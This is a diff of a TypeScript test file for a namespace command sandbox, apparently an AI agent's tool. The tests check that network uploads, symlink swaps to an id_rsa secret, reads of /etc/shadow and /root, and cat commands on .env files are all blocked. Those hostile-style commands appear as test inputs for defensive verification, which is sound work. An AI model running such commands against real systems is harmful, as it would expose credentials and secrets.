+        registry.stop(true);
+      }
+    },
+    60_000,
+  );
 
-  test.skipIf(!hasNamespace)("with nobody to judge (no seam), every request is refused; an https CONNECT is judged by host", async () => {
-    const startProxy: StartProxy = (o) => startCommandProxy({ ...o, resolveHost: () => "127.0.0.1" });
-    const { run } = setup("namespace", {}, { network: true, startProxy });
-    const out = await run("curl -s -o /dev/null -w '%{http_code}\\n' -X PUT --data x http://registry.pencil.test:9/pkg; curl -s -o /dev/null https://registry.pencil.test:9/ || echo tunnel-refused");
-    expect(out).toContain("REFUSED: PUT http://registry.pencil.test:9/pkg");
-    expect(out).toContain("REFUSED: CONNECT registry.pencil.test:443".replace(":443", ":9"));
-    expect(out).toContain("tunnel-refused");
-  }, 60_000);
+  test.skipIf(!hasNamespace)(
+    "with nobody to judge (no seam), every request is refused; an https CONNECT is judged by host",
+    async () => {
+      const startProxy: StartProxy = (o) => startCommandProxy({ ...o, resolveHost: () => "127.0.0.1" });
+      const { run } = setup("namespace", {}, { network: true, startProxy });
+      const out = await run(
+        "curl -s -o /dev/null -w '%{http_code}\\n' -X PUT --data x http://registry.pencil.test:9/pkg; curl -s -o /dev/null https://registry.pencil.test:9/ || echo tunnel-refused",
+      );
+      expect(out).toContain("REFUSED: PUT http://registry.pencil.test:9/pkg");
+      expect(out).toContain("REFUSED: CONNECT registry.pencil.test:443".replace(":443", ":9"));
+      expect(out).toContain("tunnel-refused");
+    },
+    60_000,
+  );
 });
 
 /** Host pids whose command line is exactly `args` (NUL-separated in /proc). */
@@ -970,34 +1277,62 @@ function pidsRunning(args: string[]): number[] {
 }
 
 describe("namespace sandbox: nothing outlives the command; the diff follows nothing out of the copy", () => {
-  test.skipIf(!hasNamespace)("a setsid'd survivor is killed with the command, before it can swap a file for a link to a secret", async () => {
-    const secret = join(tempDir(), "id_rsa");
-    writeFileSync(secret, "OUTSIDE-SECRET\n");
-    const { root, run, overlay } = setup("namespace");
-    const out = await run(`echo data > f; setsid sleep 31.4159 & (sleep 0.3; ln -sf ${secret} f) & echo ok`);
-    expect(out).toContain("Staged create: f");
-    expect(dec(overlay.readBytes(join(root, "f")))).toBe("data\n");
-    // Long after the swap would have happened: neither the survivor nor the swapper ran on.
-    await Bun.sleep(400);
-    expect(pidsRunning(["sleep", "31.4159"])).toEqual([]);
-    expect(overlay.list().some((e) => e.after && dec(e.after.bytes).includes("OUTSIDE-SECRET"))).toBe(false);
-  });
+  test.skipIf(!hasNamespace)(
+    "a setsid'd survivor is killed with the command, before it can swap a file for a link to a secret",
+    async () => {
+      const secret = join(tempDir(), "id_rsa");
+      writeFileSync(secret, "OUTSIDE-SECRET\n");
+      const { root, run, overlay } = setup("namespace");
+      const out = await run(`echo data > f; setsid sleep 31.4159 & (sleep 0.3; ln -sf ${secret} f) & echo ok`);
+      expect(out).toContain("Staged create: f");
+      expect(dec(overlay.readBytes(join(root, "f")))).toBe("data\n");
+      // Long after the swap would have happened: neither the survivor nor the swapper ran on.
+      await Bun.sleep(400);
+      expect(pidsRunning(["sleep", "31.4159"])).toEqual([]);
+      expect(overlay.list().some((e) => e.after && dec(e.after.bytes).includes("OUTSIDE-SECRET"))).toBe(false);
+    },
+  );
 
-  test.skipIf(!hasNamespace)("no terminal, disk or other users' secrets: /dev is private, /etc/shadow and /root are masked", async () => {
-    const { run } = setup("namespace", {}, { realHome: tempDir() });
-    const out = after(await run("ls -A /dev/pts | wc -l; (echo x > /dev/pts/ptmx) 2>/dev/null && echo PTS-WRITTEN; ls /dev | tr '\\n' ' '; echo; wc -c < /etc/shadow; ls -A /root | tr '\\n' ' '; echo; echo end"));
-    expect(out).not.toContain("PTS-WRITTEN");
-    const lines = out.split("\n");
-    const at = lines.indexOf("Output:");
-    expect(lines[at + 1]).toBe("0");
-    const devs = lines[at + 2]!.trim().split(" ");
-    for (const d of ["null", "zero", "urandom", "fd", "shm"]) expect(devs).toContain(d);
-    for (const d of devs) expect(["fd", "full", "null", "pts", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero"]).toContain(d);
-    // Empty or unreadable, never its content; root's home shows only the toolchains PATH leads into.
-    expect(lines[at + 3] === "0" || lines[at + 3]!.includes("Permission denied")).toBe(true);
-    const onPath = new Set(RUNTIME_PATH.split(":").filter((p) => p.startsWith("/root/")).map((p) => p.split("/")[2]));
-    for (const name of lines[at + 4]!.trim().split(" ").filter(Boolean)) expect(onPath.has(name)).toBe(true);
-  });
+  test.skipIf(!hasNamespace)(
+    "no terminal, disk or other users' secrets: /dev is private, /etc/shadow and /root are masked",
+    async () => {
+      const { run } = setup("namespace", {}, { realHome: tempDir() });
+      const out = after(
+        await run(
+          "ls -A /dev/pts | wc -l; (echo x > /dev/pts/ptmx) 2>/dev/null && echo PTS-WRITTEN; ls /dev | tr '\\n' ' '; echo; wc -c < /etc/shadow; ls -A /root | tr '\\n' ' '; echo; echo end",
+        ),
+      );
+      expect(out).not.toContain("PTS-WRITTEN");
+      const lines = out.split("\n");
+      const at = lines.indexOf("Output:");
+      expect(lines[at + 1]).toBe("0");
+      const devs = lines[at + 2]!.trim().split(" ");
+      for (const d of ["null", "zero", "urandom", "fd", "shm"]) expect(devs).toContain(d);
+      for (const d of devs)
+        expect([
+          "fd",
+          "full",
+          "null",
+          "pts",
+          "random",
+          "shm",
+          "stderr",
+          "stdin",
+          "stdout",
+          "tty",
+          "urandom",
+          "zero",
+        ]).toContain(d);
+      // Empty or unreadable, never its content; root's home shows only the toolchains PATH leads into.
+      expect(lines[at + 3] === "0" || lines[at + 3]!.includes("Permission denied")).toBe(true);
+      const onPath = new Set(
+        RUNTIME_PATH.split(":")
+          .filter((p) => p.startsWith("/root/"))
+          .map((p) => p.split("/")[2]),
+      );
+      for (const name of lines[at + 4]!.trim().split(" ").filter(Boolean)) expect(onPath.has(name)).toBe(true);
+    },
+  );
 });
 
 describe("host unix sockets", () => {
@@ -1021,7 +1356,12 @@ describe("host unix sockets", () => {
       scratchRoot: tempDir(),
       path: "",
       env: {},
-      unixSockets: ["/usr/pencil-test-nowhere/agent.sock", "/srv/pencil-test-nowhere/agent.sock", join(home, "in-home.sock"), "/run/covered.sock"],
+      unixSockets: [
+        "/usr/pencil-test-nowhere/agent.sock",
+        "/srv/pencil-test-nowhere/agent.sock",
+        join(home, "in-home.sock"),
+        "/run/covered.sock",
+      ],
     });
     expect(plan.secrets).toContain("/usr/pencil-test-nowhere/agent.sock");
     // /srv is covered whole, like every top-level directory that is not the system's.
@@ -1046,7 +1386,17 @@ describe("secrets hidden everywhere: the command sees only the system's own dire
     });
     symlinkSync("usr/bin", join(root, "bin"));
     const home = tempDir();
-    const plan = planHiding({ realHome: home, pencilHome: join(home, ".pencil"), wsRoot: tempDir(), scratchRoot: tempDir(), path: "", env: {}, unixSockets: [], root, systemDirs: [join(root, "etc")] });
+    const plan = planHiding({
+      realHome: home,
+      pencilHome: join(home, ".pencil"),
+      wsRoot: tempDir(),
+      scratchRoot: tempDir(),
+      path: "",
+      env: {},
+      unixSockets: [],
+      root,
+      systemDirs: [join(root, "etc")],
+    });
     const covered = plan.covers.map((c) => c.path);
     for (const d of ["srv", "opt"]) expect(covered).toContain(join(root, d));
     for (const d of ["usr", "etc", "bin"]) expect(covered).not.toContain(join(root, d));
@@ -1059,25 +1409,31 @@ describe("secrets hidden everywhere: the command sees only the system's own dire
 
   // Needs a directory of its own at the top of the real file system (root), and the namespace.
   const canPlace = hasNamespace && process.getuid?.() === 0;
-  if (hasNamespace && !canPlace) console.warn("run-command.test: SKIPPED the /srv and /etc .env test: it places files there and needs root.");
-  test.skipIf(!canPlace)("a command cannot read .env files of other projects (/srv/app/.env) nor below /etc; it still sees /usr and /etc", async () => {
-    const srv = join("/srv", `pencil-test-${process.pid}`);
-    const etc = join("/etc", `pencil-test-${process.pid}`);
-    try {
-      writeTree(srv, { ".env": "SRV-SECRET=1\n", "notes.txt": "SRV-NOTES\n" });
-      writeTree(etc, { ".env.local": "ETC-SECRET=1\n", "app.conf": "ETC-CONF-VISIBLE\n" });
-      const { run } = setup("namespace");
-      const out = after(await run(`cat ${srv}/.env ${srv}/notes.txt ${etc}/.env.local ${etc}/app.conf; ls /usr/bin/env`));
-      expect(out).not.toContain("SRV-SECRET");
-      expect(out).not.toContain("SRV-NOTES");
-      expect(out).not.toContain("ETC-SECRET");
-      expect(out).toContain("ETC-CONF-VISIBLE");
-      expect(out).toContain("/usr/bin/env");
-    } finally {
-      rmSync(srv, { recursive: true, force: true });
-      rmSync(etc, { recursive: true, force: true });
-    }
-  });
+  if (hasNamespace && !canPlace)
+    console.warn("run-command.test: SKIPPED the /srv and /etc .env test: it places files there and needs root.");
+  test.skipIf(!canPlace)(
+    "a command cannot read .env files of other projects (/srv/app/.env) nor below /etc; it still sees /usr and /etc",
+    async () => {
+      const srv = join("/srv", `pencil-test-${process.pid}`);
+      const etc = join("/etc", `pencil-test-${process.pid}`);
+      try {
+        writeTree(srv, { ".env": "SRV-SECRET=1\n", "notes.txt": "SRV-NOTES\n" });
+        writeTree(etc, { ".env.local": "ETC-SECRET=1\n", "app.conf": "ETC-CONF-VISIBLE\n" });
+        const { run } = setup("namespace");
+        const out = after(
+          await run(`cat ${srv}/.env ${srv}/notes.txt ${etc}/.env.local ${etc}/app.conf; ls /usr/bin/env`),
+        );
+        expect(out).not.toContain("SRV-SECRET");
+        expect(out).not.toContain("SRV-NOTES");
+        expect(out).not.toContain("ETC-SECRET");
+        expect(out).toContain("ETC-CONF-VISIBLE");
+        expect(out).toContain("/usr/bin/env");
+      } finally {
+        rmSync(srv, { recursive: true, force: true });
+        rmSync(etc, { recursive: true, force: true });
+      }
+    },
+  );
 });
 
 describe("diffScratch reads only what the walk recorded, within a per-run cap", () => {
@@ -1122,7 +1478,9 @@ describe("diffScratch reads only what the walk recorded, within a per-run cap", 
       for (const n of ["a", "b", "c"]) writeFileSync(join(s.dir, `${n}.txt`), "0123456789");
       const byFiles = diffScratch(s, 1 << 20, { bytes: 1 << 20, files: 2 });
       expect(byFiles.filter((c) => c.bytes).length).toBe(2);
-      expect(byFiles.filter((c) => c.unread).map((c) => c.unread)).toEqual([expect.stringContaining("over the per-run cap")]);
+      expect(byFiles.filter((c) => c.unread).map((c) => c.unread)).toEqual([
+        expect.stringContaining("over the per-run cap"),
+      ]);
       const byBytes = diffScratch(s, 1 << 20, { bytes: 25, files: 100 });
       expect(byBytes.filter((c) => c.bytes).length).toBe(2);
       expect(byBytes.filter((c) => c.unread).length).toBe(1);
